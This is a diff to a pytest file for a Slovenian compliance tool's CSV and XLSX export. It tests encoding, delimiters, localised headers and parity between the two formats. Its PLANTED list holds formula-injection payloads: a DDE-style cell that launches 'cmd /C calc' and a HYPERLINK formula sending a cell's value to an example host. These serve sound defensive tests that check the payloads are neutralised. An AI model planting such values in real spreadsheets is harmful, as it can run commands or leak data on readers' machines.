@@ -1,5 +1,7 @@
-"""`compliance check --format csv` from the reviewer's side: it opens as a table, a row per
-municipality and obligation, and says the same as the spreadsheet and the HTML report."""
+"""`compliance check --format csv` from the reviewer's side: double-clicked in Slovenian
+Excel it must open as a table in the reader's language (UTF-8 with a BOM, `;`), a row per
+municipality and obligation, the same rows as the spreadsheet's findings sheet, and no cell
+may become a formula."""
 
 from __future__ import annotations
 
@@ -9,7 +11,10 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from compliance.vocabulary import Obligation, label
+from compliance.render import csv_, xlsx
+from compliance.render.review import FINDING_COLUMNS, ordered
+from compliance.messages import texts
+from compliance.vocabulary import Grade, Obligation, label
 from conftest import DATA, RULES
 
 
@@ -20,59 +25,127 @@ def bundled():
     return assess(DATA, RULES, 2019)
 
 
-def rows_of(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text, newline="")))
+def rows_of(data: bytes, delimiter: str) -> list[list[str]]:
+    """Read as Excel does with a BOM: UTF-8, the regional list separator."""
+    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark: Excel would read Windows-1250"
+    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=delimiter))
 
 
-def test_a_row_per_municipality_and_obligation_with_a_header(cli, bundled):
+def test_slovenian_excel_reads_bom_semicolons_and_slovenian_words(cli, bundled):
     registry, assessment = bundled
     result = cli("check", "--year", "2019", "--format", "csv")
     assert result.exit_code == 0, result.output
-    rows = rows_of(result.stdout)
-    assert {"municipality", "obligation", "grade", "rule_grade", "rule", "basis", "provenance", "stated_in", "evidence"} <= set(rows[0])
-    assert [(r["municipality"], r["obligation"]) for r in rows] == [
-        (m, o.value) for m in registry.ids for o in Obligation
+    header, *rows = rows_of(result.stdout_bytes, ";")
+    assert header == ["Občina", "Obveznost", "Vrsta", "Ocena", "Pravna podlaga", "Vsebina določbe",
+                      "Izvor podatkov", "Ugotovitev", "Dokazi iz poročila", "ID", "Regija", "Voli predstavnika romske skupnosti"]
+    assert all(len(row) == len(header) for row in rows)  # no sentence split at its own `;`
+    got = [dict(zip(header, row)) for row in rows]
+    # a row per municipality and obligation, municipalities in Slovenian alphabetical order
+    assert [(r["ID"], r["Obveznost"]) for r in got] == [
+        (m, label(o, "sl")) for m in ordered(assessment, registry) for o in Obligation
     ]
-    for row, finding in zip(rows, assessment.findings):
-        assert row["grade"] == finding.grade.value
-        assert row["provenance"] == finding.provenance.value
-        assert row["stated_in"] == ("" if finding.stated_in is None else str(finding.stated_in))
-    # UTF-8: the names keep their letters
-    assert "Občina Črenšovci" in {r["name"] for r in rows}
+    ids = [r["ID"] for r in got[::4]]
+    assert ids.index("brezice") < ids.index("celje") < ids.index("crensovci") < ids.index("dobrovnik")
+    assert ids.index("semic") < ids.index("sentjernej") < ids.index("skocjan") < ids.index("tisina")
+    assert {r["Ocena"] for r in got} == {label(g, "sl") for g in Grade}
+    assert {r["Vrsta"] for r in got} <= {"zakonska obveznost", "priporočilo", "prošnja Urada"}
+    assert "Občina Črenšovci" in {r["Občina"] for r in got}
+    assert {r["Voli predstavnika romske skupnosti"] for r in got} == {"da", "ne"}
+    # no internal codes or rule ids for the lawyer
+    text = result.stdout_bytes.decode("utf-8-sig")
+    for code in ("non_compliant", "not_applicable", "programme.", "working_body."):
+        assert code not in text
+
+
+def test_english_uses_commas_and_english_words(cli, bundled):
+    _, assessment = bundled
+    header, *rows = rows_of(cli("check", "--year", "2019", "--format", "csv", "--lang", "en").stdout_bytes, ",")
+    assert header[:4] == ["Municipality", "Obligation", "Kind", "Grade"]
+    got = [dict(zip(header, row)) for row in rows]
+    assert {r["Grade"] for r in got} == {label(g, "en") for g in Grade}
+    assert sorted(r["Finding"] for r in got) == sorted(f.message("en") for f in assessment.findings)
+    assert all("člen" not in r["Legal basis"] for r in got)  # the citation is English too
 
 
 def test_csv_out_file_is_the_same_as_stdout(cli, tmp_path):
     out = tmp_path / "ugotovitve.csv"
-    written = cli("check", "--year", "2019", "--format", "csv", "--out", str(out))
+    written = cli("check", "--year", "2019", "--format", "csv", "--out", str(out), "--date", "2020-03-02")
     assert written.exit_code == 0, written.output
-    printed = cli("check", "--year", "2019", "--format", "csv").stdout_bytes
+    printed = cli("check", "--year", "2019", "--format", "csv", "--date", "2020-03-02").stdout_bytes
     assert out.read_bytes() == printed
 
 
-def test_csv_and_spreadsheet_say_the_same(cli, tmp_path, bundled):
-    """Whichever file a lawyer opens, each finding reads the same."""
-    book = tmp_path / "ugotovitve.xlsx"
-    assert cli("check", "--year", "2019", "--format", "xlsx", "--out", str(book)).exit_code == 0
-    sheet = load_workbook(book)["Ugotovitve"]
-    header, *cells = [[c.value for c in row] for row in sheet.iter_rows()]
-    spreadsheet = [dict(zip(header, row)) for row in cells]
-    rows = rows_of(cli("check", "--year", "2019", "--format", "csv").stdout)
-    assert len(rows) == len(spreadsheet) == 27 * len(Obligation)
-    grade_by_label = {label(f.grade, "sl"): f.grade.value for f in bundled[1].findings}
-    for row, sheet_row, finding in zip(rows, spreadsheet, bundled[1].findings):
-        assert row["municipality"] == sheet_row["ID"]
-        assert row["name"] == sheet_row["Občina"]
-        assert label(Obligation(row["obligation"]), "sl") == sheet_row["Obveznost"]
-        assert row["grade"] == grade_by_label[sheet_row["Ocena"]]
-        assert row["rule"] == sheet_row["Pravilo"]
-        assert row["basis"] == sheet_row["Pravna podlaga"]
-        assert row["provenance"] == finding.provenance.value
-        assert sheet_row["Izvor podatkov"] == finding.provenance_label("sl")
-        assert row["message"] == sheet_row["Ugotovitev"]
-        assert row["evidence"].split(" | ") == (sheet_row["Dokazi iz poročila"] or "").split("\n")
+@pytest.mark.parametrize("lang,delimiter", [("sl", ";"), ("en", ",")])
+def test_csv_has_the_rows_of_the_findings_sheet(bundled, lang, delimiter):
+    """Whichever file a lawyer opens, each finding reads the same (as the README says)."""
+    registry, assessment = bundled
+    book = load_workbook(io.BytesIO(xlsx.render(assessment, registry, lang)))
+    sheet = book.worksheets[1]
+    sheet_rows = [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows(min_row=2)]
+    csv_rows = rows_of(csv_.render(assessment, registry, lang).encode("utf-8"), delimiter)
+    assert csv_rows[0] == [texts("column", lang)[key] for key in FINDING_COLUMNS]
+    assert csv_rows == sheet_rows
 
 
-def test_csv_messages_in_english_with_lang_en(cli, bundled):
-    _, assessment = bundled
-    rows = rows_of(cli("check", "--year", "2019", "--format", "csv", "--lang", "en").stdout)
-    assert [r["message"] for r in rows] == [f.message("en") for f in assessment.findings]
+PLANTED = ["=1+1 Občina še nima programa.", "+386 1 234 5678 je telefon.", "-ukrepi so v pripravi.",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com/\"&A1,\"klik\")"]
+
+
+@pytest.fixture(scope="module")
+def planted():
+    """The sample assessment with evidence that a spreadsheet would read as formulas."""
+    from dataclasses import replace
+
+    from test_html_sample import sample
+
+    assessment, registry = sample()
+    findings = list(assessment.findings)
+    findings[1] = findings[1].model_copy(update={"evidence": PLANTED})
+    return replace(assessment, findings=tuple(findings)), registry
+
+
+def test_formula_prefixes_are_neutralised_in_csv(planted):
+    assessment, registry = planted
+    header, *rows = rows_of(csv_.render(assessment, registry, "sl").encode("utf-8"), ";")
+    evidence = [row[header.index("Dokazi iz poročila")] for row in rows]
+    cell = next(e for e in evidence if "Občina še nima programa" in e)
+    assert cell.split("\n") == ["'" + PLANTED[0]] + PLANTED[1:]  # one cell: only its start matters
+    for row in rows:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_formulas_stay_text_in_xlsx_and_in_libreoffice(planted, tmp_path):
+    """Every evidence sentence as its own cell's start: read back by openpyxl as text, and
+    by LibreOffice as the same text (never Err:509 or a computed value)."""
+    import shutil
+    import subprocess
+
+    assessment, registry = planted
+    from dataclasses import replace
+
+    findings = list(assessment.findings)
+    for index, sentence in enumerate(PLANTED):
+        findings[index] = findings[index].model_copy(update={"evidence": [sentence]})
+    assessment = replace(assessment, findings=tuple(findings))
+    book = tmp_path / "planted.xlsx"
+    book.write_bytes(xlsx.render(assessment, registry, "sl"))
+    sheet = load_workbook(book).worksheets[1]
+    cells = [row[8] for row in sheet.iter_rows(min_row=3)]
+    assert sorted(c.value for c in cells if c.value in PLANTED) == sorted(PLANTED)
+    assert all(c.data_type == "s" for c in cells if c.value in PLANTED)
+
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.skip("LibreOffice (soffice) is not installed: `apt-get install libreoffice-calc-nogui`")
+    subprocess.run(
+        [soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
+         "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,2",
+         "--outdir", str(tmp_path), str(book)],
+        check=True, capture_output=True, timeout=120,
+    )
+    exported = next(tmp_path.glob("planted*.csv")).read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))
+    shown = {row[8] for row in rows[2:]}
+    assert set(PLANTED) <= shown
+    assert "Err:" not in exported and "#NAME?" not in exported
